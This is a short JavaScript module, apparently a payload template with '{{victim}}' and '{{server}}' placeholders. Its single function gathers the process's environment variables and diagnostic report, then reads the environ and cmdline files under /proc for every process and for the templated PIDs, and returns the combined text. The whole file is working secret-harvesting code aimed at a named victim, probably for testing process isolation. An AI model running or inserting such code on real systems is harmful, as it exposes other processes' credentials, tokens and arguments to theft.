import { readdirSync, readFileSync } from 'node:fs';
export const f = () => {
  const found = [JSON.stringify(process.env), JSON.stringify(process.report.getReport())];
  for (const pid of [...readdirSync('/proc').filter((name) => /^\d+$/.test(name)), '{{victim}}', '{{server}}']) {
    for (const file of ['environ', 'cmdline']) {
      try {
        found.push(readFileSync(`/proc/${pid}/${file}`, 'latin1'));
      } catch {}
    }
  }
  return found.join('').replace(/"binaryVersion.*/s, '');
};
